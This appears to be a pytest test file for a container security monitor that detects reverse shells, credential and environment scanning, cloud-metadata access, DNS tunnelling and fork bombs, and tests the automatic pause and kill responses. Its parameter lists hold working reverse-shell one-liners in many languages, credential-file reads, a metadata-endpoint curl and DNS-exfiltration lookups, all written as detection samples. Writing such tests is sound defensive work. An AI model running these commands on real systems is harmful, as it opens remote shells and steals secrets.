"""Monitor detectors and responses as pure logic: every pattern, and what must not trigger."""

from __future__ import annotations

import ipaddress
import struct
from pathlib import Path
from typing import Any

import pytest

from coi.audit import AuditLog
from coi.monitor import detect
from coi.monitor.collect import Conn, Proc, _addr
from coi.monitor.execwatch import PROC_EVENT_EXEC, in_cgroup, parse_exec
from coi.monitor.flows import parse_event
from coi.monitor.respond import Responder


def proc(cmd: str, files: list[str] | None = None) -> Proc:
    return Proc(pid=4242, nspid=42, ppid=1, uid=1000, cmdline=cmd, start=1, files=files or [])


REVERSE = [
    "bash -c bash -i >& /dev/tcp/198.51.100.10/4444 0>&1",
    "sh -i 5<> /dev/tcp/198.51.100.10/4444 0<&5 1>&5 2>&5",
    "nc -e /bin/sh 198.51.100.10 4444",
    "ncat 198.51.100.10 4444 -e /bin/bash",
    "nc.traditional -c bash 10.0.0.1 9001",
    "socat tcp:198.51.100.10:4444 exec:/bin/sh,pty,stderr",
    "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.10',4444));"
    "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
    "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,$a)",
    "perl -MIO -e $p=fork;$c=new IO::Socket::INET(PeerAddr,'1.2.3.4:4444')",
    "ruby -rsocket -e f=TCPSocket.open('1.2.3.4',4444).to_i",
    "php -r $sock=fsockopen('1.2.3.4',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
    "node -e var c=new (require('net').Socket)();c.connect(4444,'1.2.3.4')",
    'awk BEGIN {s = "/inet/tcp/0/1.2.3.4/4444"; while(1){s |& getline c; print c |& s}}',
    "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f",
]
BENIGN = [
    "bash -i",
    "bash",
    "/bin/sh -c trap : INT; bash",
    "python3 -m pytest -q tests",
    "python3 -c print('hello')",
    "nc -z -w1 localhost 80",
    "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
    "git clone /workspace/src/repo /tmp/clone",
    "pip install ./dist/pkg-1.0-py3-none-any.whl",
    "gcc -O2 -o tests/run tests/run.c",
    "make -j4 check",
    "docker build -t app .",
    "grep -rn apiKey src/",
    "npm install --no-audit",
    "node server.js",
    "curl -fsSL https://registry.npmjs.org/left-pad",
]


@pytest.mark.parametrize("cmd", REVERSE)
def test_reverse_shells_are_critical(cmd: str) -> None:
    t = detect.reverse_shell(proc(cmd))
    assert t is not None and t.level == "critical" and t.category == "reverse_shell", cmd


@pytest.mark.parametrize("cmd", BENIGN)
def test_everyday_commands_raise_nothing(cmd: str) -> None:
    assert detect.scan_processes([proc(cmd)]) == [], cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "sh -c env | grep -i key",
        "bash -c printenv | grep -iE 'token|secret'",
        "grep -i key",
        "grep -iE api|secret",
        "cat /proc/1/environ",
        "sh -c cat /proc/*/environ | tr '\\0' '\\n'",
        "python3 -c import os; print({k: v for k, v in os.environ.items() if 'KEY' in k})",
        "node -e console.log(process.env.API_TOKEN)",
    ],
)
def test_environment_scans_are_warnings(cmd: str) -> None:
    t = detect.env_scan(proc(cmd))
    assert t is not None and t.level == "warning" and t.category == "env_scanning", cmd


@pytest.mark.parametrize(
    ("cmd", "files"),
    [
        ("cat /home/code/.ssh/id_ed25519", []),
        ("cat", ["/home/code/.aws/credentials"]),
        ("find / -name id_rsa", []),
        ("find / -name '*.pem'", []),
        ("python3 steal.py", ["/home/code/.config/gh/hosts.yml"]),
        ("cat", ["/srv/app/.env"]),
    ],
)
def test_credential_hunts_are_warnings(cmd: str, files: list[str]) -> None:
    t = detect.credential_access(proc(cmd, files), "/workspace")
    assert t is not None and t.level == "warning", (cmd, files)


def test_dotenv_in_the_workspace_is_fine() -> None:
    assert detect.credential_access(proc("python3 app.py", ["/workspace/.env"])) is None


def test_metadata_in_a_command_line_is_critical_even_when_refused() -> None:
    t = detect.metadata_target(proc("curl -s http://169.254.169.254/latest/meta-data/"))
    assert t is not None and t.level == "critical"
    assert detect.metadata_target(proc("echo 169.254.169.2541")) is None


CTX = detect.NetContext(mode="restricted", gateway="10.200.0.1")


def conn(remote: str, proto: str = "tcp") -> Conn:
    return Conn(proto, "10.200.0.5:40000", remote, "ESTABLISHED", 1000)


@pytest.mark.parametrize(
    ("remote", "ctx", "level", "title"),
    [
        ("169.254.169.254:80", CTX, "critical", "Cloud metadata access"),
        ("198.51.100.10:4444", CTX, "critical", "Connection to a reverse-shell port"),
        ("198.51.100.10:5555", CTX, "critical", "Connection to a reverse-shell port"),
        ("198.51.100.10:6667", CTX, "high", "Suspicious port"),
        ("192.168.77.10:22", CTX, "high", "Private network access"),
        ("10.200.0.1:8443", CTX, "high", "Connection to the host"),
        ("8.8.8.8:53", CTX, "warning", "DNS to a foreign resolver"),
        (
            "198.51.100.11:443",
            detect.NetContext(
                mode="allowlist",
                gateway="10.200.0.1",
                allowed=[ipaddress.ip_network("198.51.100.10/32")],
            ),
            "high",
            "Allowlist violation",
        ),
    ],
)
def test_connections(remote: str, ctx: detect.NetContext, level: str, title: str) -> None:
    t = detect.suspicious_connection(conn(remote), ctx)
    assert t is not None and (t.level, t.title) == (level, title)


@pytest.mark.parametrize(
    ("remote", "ctx"),
    [
        ("10.200.0.1:53", CTX),
        ("198.51.100.10:443", CTX),
        ("192.168.77.10:22", detect.NetContext(mode="open")),
        ("198.51.100.10:8080", CTX),
    ],
)
def test_normal_connections(remote: str, ctx: detect.NetContext) -> None:
    assert detect.suspicious_connection(conn(remote), ctx) is None


def test_io_bursts_and_fork_bombs() -> None:
    kw: dict[str, Any] = {"read_mb": 50, "read_rate": 10, "write_mb": 50, "write_rate": 10}
    (t,) = detect.io_burst(200_000_000, 0, 2.0, **kw)
    assert t.level == "high" and t.title == "Large read burst"
    assert detect.io_burst(5_000_000, 5_000_000, 2.0, **kw) == []
    assert detect.fork_bomb(1500, 10, 1.0) is not None
    assert detect.fork_bomb(40, 900, 2.0) is not None
    assert detect.fork_bomb(80, 60, 2.0) is None  # a parallel build
    assert detect.fork_bomb(4, 2000, 2.0) is None  # a script running `true` in a loop


def test_dns_volume() -> None:
    assert detect.dns_volume([], 50, 100) is None
    t = detect.dns_volume([conn("10.200.0.1:53", "udp")], 600, 100)
    assert t is not None and t.category == "dns"


def test_proc_net_addresses() -> None:
    assert _addr("0100007F:1F90", False) == "127.0.0.1:8080"
    assert _addr("0000000000000000FFFF00000100007F:0035", True) == "127.0.0.1:53"


def test_exec_events_and_cgroup_match() -> None:
    def event(what: int, tgid: int) -> bytes:
        body = struct.pack("=IIQ", what, 0, 0) + struct.pack("=II", tgid, tgid)
        cn = struct.pack("=IIIIHH", 1, 1, 0, 0, len(body), 0)
        return struct.pack("=IHHII", 16 + len(cn) + len(body), 3, 0, 0, 0) + cn + body

    assert parse_exec(event(PROC_EVENT_EXEC, 77) + event(1, 78) + event(PROC_EVENT_EXEC, 79)) == [
        77,
        79,
    ]
    assert in_cgroup("/lxc.payload.coi-ab-1", "lxc.payload.coi-ab-1")
    assert in_cgroup("/lxc.payload.coi-ab-1/system.slice/x", "lxc.payload.coi-ab-1")
    assert not in_cgroup("/lxc.payload.coi-ab-10", "lxc.payload.coi-ab-1")


class _Instances:
    def __init__(self) -> None:
        self.calls: list[str] = []

    def freeze(self, name: str) -> None:
        self.calls.append(f"freeze {name}")

    def stop(self, name: str, *, force: bool = False) -> None:
        self.calls.append(f"stop {name} force={force}")


class _Daemon:
    """Records what the responder asks of the daemon (its effect is tested on the real one)."""

    def __init__(self) -> None:
        self.instances = _Instances()


def test_responses_by_level_with_dedupe(tmp_path: Path) -> None:
    daemon, shown, now = _Daemon(), [], [100.0]
    audit = AuditLog("c1", tmp_path)
    r = Responder(
        daemon,  # type: ignore[arg-type]
        "c1",
        audit,
        auto_pause=True,
        auto_kill=True,
        alert=shown.append,
        clock=lambda: now[0],
    )
    warn = detect.Threat("warning", "env_scanning", "Environment scanning detected", "x")
    high = detect.Threat("high", "network", "Private network access", "tcp to 192.168.1.1:22")
    crit = detect.Threat("critical", "reverse_shell", "Reverse shell detected", "nc -e")
    assert [e.action for e in r.handle([warn])] == ["alerted"]
    assert [e.action for e in r.handle([warn])] == ["deduplicated"]
    now[0] += 31
    assert [e.action for e in r.handle([warn, high])] == ["paused", "alerted"]
    assert [e.action for e in r.handle([high])] == ["deduplicated"]
    other = detect.Threat("high", "network", "Suspicious port", "tcp to 1.2.3.4:6667")
    assert [e.action for e in r.handle([other])] == ["logged (already paused)"]
    assert [e.action for e in r.handle([crit])] == ["killed"]
    assert daemon.instances.calls == ["freeze c1", "stop c1 force=True"]
    assert "⚠ SECURITY ALERT [CRITICAL]" in shown[-1] and "KILLED" in shown[-1]
    assert "Resume with: coi resume c1" in shown[1]
    lines = audit.path.read_text().splitlines()
    assert (
        len(lines) == 7 and '"level":"critical"' in lines[-1] and '"action":"killed"' in lines[-1]
    )


def test_conntrack_events() -> None:
    line = (
        "[1795726216.433701]\t    [NEW] tcp      6 120 SYN_SENT src=10.200.0.5 dst=198.51.100.10 "
        "sport=39810 dport=4444 [UNREPLIED] src=198.51.100.10 dst=10.200.0.5 sport=4444 dport=39810"
    )
    c = parse_event(line)
    assert c is not None and c.remote == "198.51.100.10:4444" and c.local == "10.200.0.5:39810"
    t = detect.suspicious_connection(c, CTX)
    assert t is not None and t.level == "critical"
    assert parse_event("[DESTROY] tcp 6 src=1.2.3.4") is None


def test_dns_tunnel_shaped_lookups_and_tmp_usage() -> None:
    label = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3e"  # base32 of data
    for cmd in (f"dig {label}.exfil.example", f"nslookup -type=txt {label}.x.example"):
        t = detect.dns_tunnel(proc(cmd))
        assert t is not None and t.level == "warning" and t.category == "dns", cmd
    assert detect.dns_tunnel(proc("dig registry.npmjs.org")) is None
    assert detect.dns_tunnel(proc(f"echo {label}.example")) is None
    assert detect.tmp_usage(90, 100) is not None
    assert detect.tmp_usage(50, 100) is None and detect.tmp_usage(0, 0) is None


def test_the_monitors_defaults_are_the_schemas(tmp_path: Path) -> None:
    """Declared once: a monitor made without config thresholds like one made from it."""
    from coi.config.loader import load_config
    from coi.monitor.monitor import Settings

    cfg = load_config(cwd=tmp_path, env={"HOME": str(tmp_path)}, files=[])
    assert Settings.from_config(cfg) == Settings()


def _sock_proc(pid: int, cmd: str, stdio: dict[int, str]) -> Proc:
    p = Proc(pid=pid, nspid=pid, ppid=1, uid=1000, cmdline=cmd, start=1)
    p.stdio.update(stdio)
    return p


def test_a_process_with_its_stdio_on_a_remote_tcp_connection_is_a_reverse_shell() -> None:
    from coi.monitor.collect import Conn
    from coi.monitor.detect import socket_shells

    conns = [
        Conn("tcp", "10.0.0.2:40000", "203.0.113.7:443", "ESTABLISHED", 1000, inode=4242),
        Conn("tcp", "127.0.0.1:40001", "127.0.0.1:8080", "ESTABLISHED", 1000, inode=77),
        Conn("tcp", "10.0.0.2:40002", "203.0.113.7:80", "SYN_SENT", 1000, inode=78),
        Conn("tcp", "10.0.0.2:40003", "203.0.113.7:443", "FIN_WAIT2", 1000, inode=79),
        Conn("tcp", "10.0.0.2:40004", "203.0.113.7:80", "CLOSE_WAIT", 1000, inode=80),
        Conn("udp", "10.0.0.2:40005", "203.0.113.7:9", "UDP", 1000, inode=81),
        Conn("tcp", "0.0.0.0:22", "0.0.0.0:0", "LISTEN", 1000, inode=82),
        Conn("udp", "127.0.0.1:40006", "127.0.0.1:53", "UDP", 1000, inode=83),
    ]
    renamed = _sock_proc(10, "/tmp/kworker -i", {0: "socket:[4242]", 1: "socket:[4242]"})
    local = _sock_proc(11, "nc localhost 8080", {0: "socket:[77]"})  # loopback: not a peer
    agent = _sock_proc(13, "claude", {0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0"})
    piped = _sock_proc(14, "git", {0: "pipe:[5]", 1: "socket:[999]"})  # unknown inode
    listener = _sock_proc(15, "inetd", {0: "socket:[82]"})  # no peer
    local_udp = _sock_proc(16, "x", {1: "socket:[83]"})
    found = socket_shells([renamed, local, agent, piped, listener, local_udp], conns)
    assert [(t.level, t.category) for t in found] == [("critical", "reverse_shell")]
    assert "PID 10" in found[0].description and "203.0.113.7:443" in found[0].description
    assert found[0].evidence["connection"] == {"remote": "203.0.113.7:443", "fd": 0}
    # Any connected state (connecting, half-closed either way) and connected UDP: the same.
    for pid, inode in ((12, 78), (17, 79), (18, 80), (19, 81)):
        (t,) = socket_shells([_sock_proc(pid, "/tmp/x", {2: f"socket:[{inode}]"})], conns)
        assert f"PID {pid}" in t.description and t.level == "critical"


def test_a_shell_fed_from_and_answering_the_network_through_pipes_is_a_reverse_shell() -> None:
    from coi.monitor.collect import Conn
    from coi.monitor.detect import pipe_shells

    conns = [Conn("tcp", "10.0.0.2:40000", "203.0.113.7:443", "ESTABLISHED", 1000, inode=9)]

    def proc(pid: int, cmd: str, stdio: dict[int, str], files: tuple[str, ...] = ()) -> Proc:
        p = _sock_proc(pid, cmd, stdio)
        p.files.extend([*stdio.values(), *files])
        return p

    # cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f
    # (cat opens the FIFO as fd 3: its stdin is the script's, as seen in a container)
    cat = proc(20, "cat /tmp/f", {0: "pipe:[99]", 1: "pipe:[100]"}, ("/tmp/f",))
    sh = proc(21, "/tmp/kworker -i", {0: "pipe:[100]", 1: "pipe:[101]", 2: "pipe:[101]"})
    nc = proc(22, "nc 203.0.113.7 443", {0: "pipe:[101]", 1: "/tmp/f"}, ("socket:[9]",))
    (threat,) = pipe_shells([cat, sh, nc], conns)
    assert "PID 21" in threat.description and threat.level == "critical"
    assert threat.evidence["network_peer"]["pid"] == 22

    # curl | sh: fed from the network, but answering the terminal.
    curl = proc(30, "curl -s https://x/install.sh", {0: "/dev/null", 1: "pipe:[200]"},
                ("socket:[9]",))  # fmt: skip
    sh2 = proc(31, "sh", {0: "pipe:[200]", 1: "/dev/pts/0", 2: "/dev/pts/0"})
    # make | nc: answering the network, fed by no one from it.
    make = proc(40, "make", {0: "/dev/null", 1: "pipe:[300]"})
    nc2 = proc(41, "nc 203.0.113.7 443", {0: "pipe:[300]", 1: "/dev/null"}, ("socket:[9]",))
    assert pipe_shells([curl, sh2, make, nc2], conns) == []


def test_a_pipe_shell_whose_reading_connection_is_half_closed_is_a_reverse_shell() -> None:
    """`nc h 443 | sh | nc h 80` with the first nc's stdin /dev/null: it shuts its writing
    half at once (FIN_WAIT2) and still reads the attacker's commands."""
    from coi.monitor.collect import Conn
    from coi.monitor.detect import pipe_shells

    conns = [
        Conn("tcp", "10.0.0.2:40000", "203.0.113.7:443", "FIN_WAIT2", 1000, inode=9),
        Conn("tcp", "10.0.0.2:40001", "203.0.113.7:80", "ESTABLISHED", 1000, inode=10),
    ]

    def proc(pid: int, cmd: str, stdio: dict[int, str], files: tuple[str, ...] = ()) -> Proc:
        p = _sock_proc(pid, cmd, stdio)
        p.files.extend([*stdio.values(), *files])
        return p

    nc_in = proc(50, "nc 203.0.113.7 443", {0: "/dev/null", 1: "pipe:[1]"}, ("socket:[9]",))
    sh = proc(51, "sh", {0: "pipe:[1]", 1: "pipe:[2]", 2: "pipe:[2]"})
    nc_out = proc(52, "nc 203.0.113.7 80", {0: "pipe:[2]", 1: "/dev/null"}, ("socket:[10]",))
    (t,) = pipe_shells([nc_in, sh, nc_out], conns)
    assert "PID 51" in t.description
    # A listener is no peer: the same pipeline between two servers' listening sockets is not it.
    listening = [Conn("tcp", "0.0.0.0:443", "0.0.0.0:0", "LISTEN", 1000, inode=9)]
    assert pipe_shells([nc_in, sh, nc_out], listening) == []


def test_a_kill_from_the_host_comes_first_and_the_daemon_is_told_after(tmp_path: Path) -> None:
    daemon, order = _Daemon(), []
    audit = AuditLog("c1", tmp_path)

    def kill_now() -> bool:
        order.append("cgroup.kill")
        return True

    r = Responder(
        daemon,  # type: ignore[arg-type]
        "c1", audit, auto_pause=True, auto_kill=True, alert=lambda _m: None, kill_now=kill_now,
    )  # fmt: skip
    crit = detect.Threat("critical", "reverse_shell", "Reverse shell detected", "x")
    assert [e.action for e in r.handle([crit])] == ["killed"]
    assert order == ["cgroup.kill"] and daemon.instances.calls == ["stop c1 force=True"]
    assert '"action":"killed"' in audit.path.read_text()
    # No cgroup.kill (v1, an old kernel): the daemon's stop is the kill.
    daemon2 = _Daemon()
    r2 = Responder(
        daemon2,  # type: ignore[arg-type]
        "c2", AuditLog("c2", tmp_path), auto_pause=True, auto_kill=True,
        alert=lambda _m: None, kill_now=lambda: False,
    )  # fmt: skip
    assert [e.action for e in r2.handle([crit])] == ["killed"]
    assert daemon2.instances.calls == ["stop c2 force=True"]


def test_a_pause_freezes_from_the_host_first_and_undoes_it_when_the_daemon_refuses(
    tmp_path: Path,
) -> None:
    from coi.errors import BackendError

    order: list[str] = []

    def freeze_now(freeze: bool) -> bool:
        order.append("cgroup freeze" if freeze else "cgroup thaw")
        return True

    daemon = _Daemon()
    r = Responder(
        daemon,  # type: ignore[arg-type]
        "c1", AuditLog("c1", tmp_path), auto_pause=True, auto_kill=True,
        alert=lambda _m: None, freeze_now=freeze_now,
    )  # fmt: skip
    high = detect.Threat("high", "process", "Process flood", "x")
    assert [e.action for e in r.handle([high])] == ["paused"]
    # The daemon is told too: it shows the container frozen, which `coi resume` needs.
    assert order == ["cgroup freeze"] and daemon.instances.calls == ["freeze c1"]

    class Refusing(_Instances):
        def freeze(self, name: str) -> None:
            raise BackendError("The instance isn't running")

    daemon2, order[:] = _Daemon(), []
    daemon2.instances = Refusing()
    r2 = Responder(
        daemon2,  # type: ignore[arg-type]
        "c2", AuditLog("c2", tmp_path), auto_pause=True, auto_kill=True,
        alert=lambda _m: None, freeze_now=freeze_now,
    )  # fmt: skip
    (event,) = r2.handle([high])
    assert event.action == "pause failed: The instance isn't running" and not r2.paused
    # A freeze nobody could undo with `coi resume` is not left behind.
    assert order == ["cgroup freeze", "cgroup thaw"]
